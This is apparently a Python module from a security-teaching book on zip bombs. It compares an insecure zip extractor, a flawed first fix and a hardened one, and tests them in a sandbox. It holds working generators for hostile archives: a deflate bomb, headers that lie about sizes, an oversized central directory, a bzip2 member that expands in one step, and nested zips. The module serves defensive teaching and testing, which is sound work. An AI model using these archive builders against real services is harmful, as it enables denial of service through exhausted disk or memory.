"""A small zip archive that expands enormously.

Deflate compresses runs of zeros about a thousand to one, so a zip of a few hundred
kilobytes can expand to hundreds of megabytes, and nested or overlapping archives go much
further. Code that extracts whatever the central directory lists fills the disk. A first fix checks
the member count, the declared sizes and each member's compression ratio before extracting,
and counts the bytes it writes (:func:`extract_first_try`). Each of those checks trusts
something the attacker controls: the ratio is worked out from sizes the headers declare,
the member count is taken after ``zipfile`` has parsed the whole central directory, and the
limits are per call while an application may unpack the archives it finds inside. The secure
extractor bounds the central directory before ``zipfile`` reads it, holds the ratio on what
it counts against the archive's real size, and charges every byte and member to a
:class:`Budget` that nested archives share. The demonstration never writes the expanded
bytes: extractors pass each chunk to a ``write`` callable, and the attack's callable only
counts.
Book page: ``book/practices/files``.
"""

from __future__ import annotations

import functools
import hashlib
import inspect
import io
import json
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import BinaryIO

from pysecbook.lab.child import last_line, private_tmpdir, run_python
from pysecbook.teaching.risks import AdaptedAttack, Outcome, Risk, register

CHUNK = 64 * 1024
#: Limits of the secure extractor: total uncompressed bytes, members, compression ratio, and
#: the size of the central directory (``zipfile`` parses it whole when the archive is opened).
MAX_TOTAL_BYTES = 32 * 2**20
MAX_MEMBERS = 1_000
MAX_RATIO = 100
MAX_DIRECTORY_BYTES = 2**20

#: The bomb: this many members of this many zero bytes each.
BOMB_MEMBERS = 4
BOMB_MEMBER_BYTES = 16 * 2**20


class ZipBombError(ValueError):
    """An archive exceeds the extractor's limits."""


def extract_insecure(archive: str, write: Callable[[str, bytes], object]) -> int:
    """Extract every member of ``archive``, chunk by chunk, through ``write(name, chunk)``."""
    total = 0
    with zipfile.ZipFile(archive) as zf:
        for info in zf.infolist():
            with zf.open(info) as member:
                while chunk := member.read(CHUNK):
                    write(info.filename, chunk)
                    total += len(chunk)
    return total


def extract_first_try(archive: str, write: Callable[[str, bytes], object]) -> int:
    """The first fix: limits on members, declared size and ratio, and a count while writing.

    Each check believes something the attacker wrote: the ratio comes from the compressed
    size a header declares; the member count is taken after ``zipfile`` has parsed every
    entry of the central directory; the limits hold per call, not per upload.
    """
    total = 0
    with zipfile.ZipFile(archive) as zf:
        infos = zf.infolist()
        if len(infos) > MAX_MEMBERS:
            raise ZipBombError(f"{len(infos)} members, more than {MAX_MEMBERS}")
        declared = sum(info.file_size for info in infos)
        if declared > MAX_TOTAL_BYTES:
            raise ZipBombError(f"declares {declared:,} bytes, more than {MAX_TOTAL_BYTES:,}")
        for info in infos:
            if info.file_size > MAX_RATIO * max(info.compress_size, 1):
                raise ZipBombError(f"{info.filename}: compression ratio above {MAX_RATIO}")
            with zf.open(info) as member:
                while chunk := member.read(CHUNK):
                    total += len(chunk)
                    if total > MAX_TOTAL_BYTES:
                        raise ZipBombError(f"more than {MAX_TOTAL_BYTES:,} bytes extracted")
                    write(info.filename, chunk)
    return total


class Budget:
    """What one upload may still produce, in bytes and members, across every archive
    unpacked from it: pass the same budget to the extraction of a nested archive."""

    def __init__(self, total_bytes: int = MAX_TOTAL_BYTES, members: int = MAX_MEMBERS) -> None:
        self.bytes_left = total_bytes
        self.members_left = members

    def take(self, *, nbytes: int = 0, members: int = 0) -> None:
        if nbytes > self.bytes_left or members > self.members_left:
            raise ZipBombError(f"over the upload's budget ({nbytes:,} bytes and {members} "
                               f"members asked, {self.bytes_left:,} and {self.members_left} left)")
        self.bytes_left -= nbytes
        self.members_left -= members


_END = b"PK\x05\x06"
_ZIP64_LOCATOR = b"PK\x06\x07"


def declared_directory_size(fp: BinaryIO) -> int:
    """The largest central directory that any end record in the archive's tail declares.

    ``zipfile`` looks for the end record in the last 64 KiB and 22 bytes, and prefers a
    ZIP64 end record when a locator sits right before it; every candidate either could use
    is read, and the largest wins, so the bound holds whichever ``zipfile`` picks.
    """
    size = fp.seek(0, os.SEEK_END)
    start = max(0, size - (1 << 16) - 22)
    fp.seek(start)
    tail = fp.read()
    largest = 0
    at = tail.find(_END)
    while at >= 0:
        record = tail[at:at + 22]
        if len(record) == 22:
            largest = max(largest, struct.unpack("<4s4H2LH", record)[5])
        position = start + at
        if position >= 20 + 56:
            fp.seek(position - 20)
            locator = fp.read(20)
            fp.seek(position - 20 - 56)
            zip64 = fp.read(56)
            if locator[:4] == _ZIP64_LOCATOR and zip64[:4] == b"PK\x06\x06":
                largest = max(largest, struct.unpack("<4sQ2H2L4Q", zip64)[8])
        at = tail.find(_END, at + 1)
    return largest


def extract_secure(archive: str, write: Callable[[str, bytes], object],
                   budget: Budget | None = None) -> int:
    """Extract ``archive`` within limits that hold whatever its headers say.

    Before ``zipfile`` parses anything: the central directory may declare at most
    :data:`MAX_DIRECTORY_BYTES`. Then, from the parsed headers: members and declared sizes
    within ``budget`` (one per upload, :data:`MAX_TOTAL_BYTES` and :data:`MAX_MEMBERS` by
    default), each member stored or deflated (``zipfile`` decompresses bzip2 and LZMA
    members without a bound on each call, CPython gh-156002), and each member's declared
    ratio at most :data:`MAX_RATIO`. While streaming, on what is counted: every byte is
    charged to ``budget``, and the bytes written may not exceed :data:`MAX_RATIO` times the
    archive's real size on disk, which no header can change. The price: an honest archive
    that compresses better than ``MAX_RATIO`` to one (a small file of repeated text), or
    that uses bzip2 or LZMA, is refused.

    Assumes: ``write`` stores what it is given and nothing else unpacks it; an application
    that unpacks archives found inside passes the same ``budget`` to every level.
    Does not stop: an application that forgets to pass the budget on (each call then has a
    fresh one); a member's name, which ``write`` must not use as a path unchecked; the CPU
    spent decompressing up to the limits.
    """
    budget = Budget() if budget is None else budget
    total = 0
    with open(archive, "rb") as raw:
        directory = declared_directory_size(raw)
        if directory > MAX_DIRECTORY_BYTES:
            raise ZipBombError(f"central directory of {directory:,} bytes, more than "
                               f"{MAX_DIRECTORY_BYTES:,}")
        allowed = MAX_RATIO * raw.seek(0, os.SEEK_END)
        raw.seek(0)
        with zipfile.ZipFile(raw) as zf:
            infos = zf.infolist()
            budget.take(members=len(infos))
            declared = sum(info.file_size for info in infos)
            if declared > min(budget.bytes_left, allowed):
                raise ZipBombError(f"declares {declared:,} bytes, more than "
                                   f"{min(budget.bytes_left, allowed):,}")
            for info in infos:
                if info.compress_type not in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
                    raise ZipBombError(f"{info.filename}: compression method "
                                       f"{info.compress_type}, not stored or deflated")
                if info.file_size > MAX_RATIO * max(info.compress_size, 1):
                    raise ZipBombError(f"{info.filename}: compression ratio above {MAX_RATIO}")
                with zf.open(info) as member:
                    while chunk := member.read(CHUNK):
                        total += len(chunk)
                        if total > allowed:
                            raise ZipBombError(f"more than {MAX_RATIO} times the archive's "
                                               f"size extracted")
                        budget.take(nbytes=len(chunk))
                        write(info.filename, chunk)
    return total


def build_bomb(path: Path) -> Path:
    """Write the bomb to ``path``, streaming zeros so it never holds a member in memory."""
    zeros = bytes(CHUNK)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for index in range(BOMB_MEMBERS):
            with zf.open(f"data/part{index}.bin", "w") as member:
                for _ in range(BOMB_MEMBER_BYTES // CHUNK):
                    member.write(zeros)
    return path


def lying_size_archive(actual: int = 2**20, declared: int = 1_000) -> bytes:
    """One member of ``actual`` zero bytes whose headers claim it holds ``declared`` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("small.bin", bytes(actual))
    data = bytearray(buffer.getvalue())
    struct.pack_into("<I", data, 22, declared)  # local file header: uncompressed size
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, declared)  # central directory: same field
    return bytes(data)


def lying_size_behaviour() -> str:
    """What :mod:`zipfile` does with a member larger than its headers declare."""
    with private_tmpdir() as tmp:
        archive = tmp / "liar.zip"
        archive.write_bytes(lying_size_archive())
        counter = ByteCounter()
        try:
            extract_insecure(str(archive), counter)
            ending = "no error"
        except zipfile.BadZipFile as exc:
            ending = f"BadZipFile: {exc}"
    return (f"member declares 1,000 bytes, holds {2**20:,}: zipfile handed over "
            f"{counter.total:,} bytes, then {ending}")


class ByteCounter:
    """A ``write`` callable that counts what it is given instead of writing it."""

    def __init__(self) -> None:
        self.total = 0

    def __call__(self, name: str, chunk: bytes) -> None:
        self.total += len(chunk)


def _expansion(func: Callable[..., int], archive: Path) -> Outcome:
    """Extract ``archive`` with ``func`` into a counter: did it write more than
    :data:`MAX_RATIO` times the archive's size?"""
    size = archive.stat().st_size
    counter = ByteCounter()
    try:
        func(str(archive), counter)
        error = ""
    except (ZipBombError, zipfile.BadZipFile) as exc:
        error = f"; refused: {exc}"
    ratio = counter.total / size
    observed = (f"{size / 1024:.0f} KiB archive: the extractor wrote "
                f"{counter.total / 2**20:.0f} MiB ({ratio:,.0f} times the archive's size){error}")
    return Outcome(attack_succeeded=ratio > MAX_RATIO, observed=observed)


def attack(func: Callable[..., int]) -> Outcome:
    """Mallory uploads a small zip; how many bytes would the server write to disk?"""
    with private_tmpdir() as tmp:
        return _expansion(func, build_bomb(tmp / "photos.zip"))


@functools.cache
def lying_ratio_archive(members: int = 3, member_bytes: int = 10 * 2**20) -> bytes:
    """Members of zeros (about 10 KiB each once compressed) whose headers claim a compressed
    size just large enough for the ratio check, followed by 128 KiB of padding so that the
    claim does not run past the end of the file; the declared total stays under
    :data:`MAX_TOTAL_BYTES`. ``zipfile`` stops where a member's deflate stream ends."""
    claimed = member_bytes // MAX_RATIO + 1
    buffer = io.BytesIO()
    zeros = bytes(CHUNK)
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for index in range(members):
            with zf.open(f"photo{index}.raw", "w") as member:
                for _ in range(member_bytes // CHUNK):
                    member.write(zeros)
        padding = b"".join(hashlib.sha256(i.to_bytes(4, "big")).digest() for i in range(4096))
        zf.writestr(zipfile.ZipInfo("padding.bin"), padding, compress_type=zipfile.ZIP_STORED)
        offsets = [info.header_offset for info in zf.infolist()[:members]]
    data = bytearray(buffer.getvalue())
    for offset in offsets:
        struct.pack_into("<I", data, offset + 18, claimed)  # local header: compressed size
    central = data.find(b"PK\x01\x02")
    for _ in range(members):
        struct.pack_into("<I", data, central + 20, claimed)  # central directory: the same
        central = data.find(b"PK\x01\x02", central + 46)
    return bytes(data)


def attack_lying_ratio(func: Callable[..., int]) -> Outcome:
    """Members whose headers claim a compressed size ten times their real one, just enough
    for each ratio to pass, with padding so the claim stays inside the file: 30 MiB from an
    archive of some 160 KiB.

    It depends on the interpreter: since the fix of gh-109858 (3.11.8, 3.12.2), ``zipfile``
    refuses a member whose claimed compressed size runs into the next entry ("overlapped
    entries"), so the lie cannot share the padding. Not an adapted attack for that reason;
    the secure version's count against the archive's real size stops it everywhere.
    """
    with private_tmpdir() as tmp:
        archive = tmp / "photos.zip"
        archive.write_bytes(lying_ratio_archive())
        return _expansion(func, archive)


@functools.cache
def wide_directory_archive(entries: int = 60_000) -> bytes:
    """One empty member, and a central directory that lists it ``entries`` times (the end
    record says 65,535; ``zipfile`` reads the directory by its size, not by that count)."""
    name = b"a"
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name),
                        0, 0, 0, 0, 0, 0) + name
    directory = entry * entries
    end = struct.pack("<4s4H2LH", _END, 0, 0, 0xFFFF, 0xFFFF, len(directory), len(local), 0)
    return local + directory + end


_MEASURE = """\
import importlib, json, sys, tracemalloc
module_name, _, qualname = sys.argv[1].partition(":")
extract = getattr(importlib.import_module(module_name), qualname)
tracemalloc.start()
try:
    extract(sys.argv[2], lambda name, chunk: None)
    error = ""
except Exception as exc:
    error = f"{type(exc).__name__}: {exc}"
grew = tracemalloc.get_traced_memory()[1]
print(json.dumps({"grew": grew, "error": error[:120]}))
"""


def attack_wide_directory(func: Callable[..., int]) -> Outcome:
    """A central directory of 60,000 entries (2.7 MiB, all pointing at one empty member):
    ``zipfile`` parses every entry when the archive is opened, before a limit on members
    can count them. Run in a child, whose allocations are traced; the most a directory
    within the secure limit of 1 MiB can cost is about 8 MiB, and the attack wins above 12."""
    with private_tmpdir() as tmp:
        archive = tmp / "photos.zip"
        archive.write_bytes(wide_directory_archive())
        size = archive.stat().st_size
        done = run_python(_MEASURE, cwd=tmp, timeout=60,
                          args=[f"{func.__module__}:{func.__qualname__}", str(archive)])
    if done.timed_out or done.returncode < 0:  # killed: out of time or out of memory
        return Outcome(True, f"the extracting process was killed (status {done.returncode})")
    try:
        result = json.loads(last_line(done.stdout))
    except ValueError:
        raise RuntimeError(f"the demonstration's child failed: {last_line(done.stderr)}") from None
    grew = result["grew"] / 2**20
    ending = f"; {result['error']}" if result["error"] else ""
    return Outcome(grew > 12, f"{size / 2**20:.1f} MiB archive: the extractor allocated up to "
                              f"{grew:.0f} MiB{ending}")


@functools.cache
def bzip2_member_archive(member_bytes: int = 30 * 2**20, declared: int = 1000) -> bytes:
    """One bzip2 member of ``member_bytes`` zeros (some 50 bytes once compressed) whose
    headers declare ``declared`` bytes, with the CRC of that many zeros. ``zipfile`` cuts
    what it decompressed down to the declared size, checks the CRC and is satisfied; but it
    decompressed the whole member first."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        info = zipfile.ZipInfo("scan.raw")
        info.compress_type = zipfile.ZIP_BZIP2
        with zf.open(info, "w") as member:
            for _ in range(member_bytes // CHUNK):
                member.write(bytes(CHUNK))
    data = bytearray(buffer.getvalue())
    crc = zlib.crc32(bytes(declared))
    central = data.find(b"PK\x01\x02")
    for crc_at, size_at in ((14, 22), (central + 16, central + 24)):  # local, central
        struct.pack_into("<I", data, crc_at, crc)
        struct.pack_into("<I", data, size_at, declared)
    return bytes(data)


def attack_bzip2_member(func: Callable[..., int]) -> Outcome:
    """A bzip2 member that declares 1,000 bytes and holds 30 MiB: ``zipfile`` bounds each
    decompression step for deflate, not for bzip2 or LZMA, so its first read of the member
    produces all 30 MiB in one allocation before it cuts them down to the declared size.
    Every limit on declared and counted bytes is met. Run in a child, whose allocations are
    traced.

    It depends on the interpreter: the releases that fix gh-156002 (2026) bound those
    decompressors too. Not an adapted attack for that reason; the secure version refuses
    bzip2 and LZMA members everywhere.
    """
    with private_tmpdir() as tmp:
        archive = tmp / "scan.zip"
        archive.write_bytes(bzip2_member_archive())
        size = archive.stat().st_size
        done = run_python(_MEASURE, cwd=tmp, timeout=60,
                          args=[f"{func.__module__}:{func.__qualname__}", str(archive)])
    if done.timed_out or done.returncode < 0:  # killed: out of time or out of memory
        return Outcome(True, f"the extracting process was killed (status {done.returncode})")
    try:
        result = json.loads(last_line(done.stdout))
    except ValueError:
        raise RuntimeError(f"the demonstration's child failed: {last_line(done.stderr)}") from None
    grew = result["grew"] / 2**20
    ending = f"; {result['error']}" if result["error"] else ""
    return Outcome(grew > 16, f"{size} byte archive: the extractor allocated up to "
                              f"{grew:.0f} MiB{ending}")


def _sprinkled(size: int) -> bytes:
    """``size`` bytes that deflate about 20 to 1: one hash byte every 64 bytes, zeros between."""
    step = 64
    return b"".join(hashlib.sha256(i.to_bytes(4, "big")).digest()[:1] + bytes(step - 1)
                    for i in range(size // step))


@functools.cache
def nested_archive(inner_count: int = 4, inner_bytes: int = 10 * 2**20) -> bytes:
    """A zip of ``inner_count`` zips, each with one member of ``inner_bytes`` that stays under
    every per-member ratio: together more than :data:`MAX_TOTAL_BYTES`."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("scan.raw", _sprinkled(inner_bytes))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", compression=zipfile.ZIP_STORED) as zf:
        for index in range(inner_count):
            zf.writestr(f"batch{index}.zip", inner.getvalue())
    return outer.getvalue()


def unpack_nested(extract: Callable[..., int], archive: Path, write: Callable[[str, bytes], object],
                  budget: object = None) -> None:
    """The application: unpack an upload, and every zip found inside it, as indexers and
    scanners do. It hands one budget to every level when the extractor takes one."""
    if budget is None and "budget" in inspect.signature(extract).parameters:
        budget = Budget()
    inner: dict[str, bytearray] = {}

    def keep_zips(name: str, chunk: bytes) -> None:
        write(name, chunk)
        if name.endswith(".zip"):
            inner.setdefault(name, bytearray()).extend(chunk)

    extract(str(archive), keep_zips, **({"budget": budget} if budget is not None else {}))
    for index, data in enumerate(inner.values()):
        path = archive.with_name(f"{archive.stem}-{index}.zip")
        path.write_bytes(data)
        unpack_nested(extract, path, write, budget)


def attack_nested(func: Callable[..., int]) -> Outcome:
    """A zip of four zips, each within every limit on its own, for an application that
    unpacks what it unpacked: is one upload held to the 32 MiB limit?"""
    with private_tmpdir() as tmp:
        archive = tmp / "upload.zip"
        archive.write_bytes(nested_archive())
        size = archive.stat().st_size
        counter = ByteCounter()
        try:
            unpack_nested(func, archive, counter)
            error = ""
        except ZipBombError as exc:
            error = f"; refused: {exc}"
    return Outcome(counter.total > MAX_TOTAL_BYTES,
                   f"{size / 2**20:.1f} MiB upload: {counter.total / 2**20:.0f} MiB written in all "
                   f"(limit {MAX_TOTAL_BYTES // 2**20} MiB){error}")


RISK = register(
    Risk(
        id="PSB-ZIP-BOMB",
        title="Extracting a zip bomb fills the disk",
        summary="A small archive can expand a thousandfold; bound the central directory, "
        "check members and sizes, and hold the counted bytes to the archive's real size and "
        "to one budget per upload.",
        cwe=409,
        bandit=(),
        no_static_rule="both versions read every member; only the limits checked around the "
                       "reads make one safe.",
        modules=("zipfile", "zlib"),
        page="practices/files",
        insecure=extract_insecure,
        secure=extract_secure,
        attack=attack,
        adapted=(
            AdaptedAttack("a central directory of 60,000 entries, parsed before any count",
                          "exhaustion", attack_wide_directory, beats=extract_first_try),
            AdaptedAttack("a zip of zips, for an application that unpacks what it unpacked",
                          "exhaustion", attack_nested, beats=extract_first_try),
        ),
    )
)
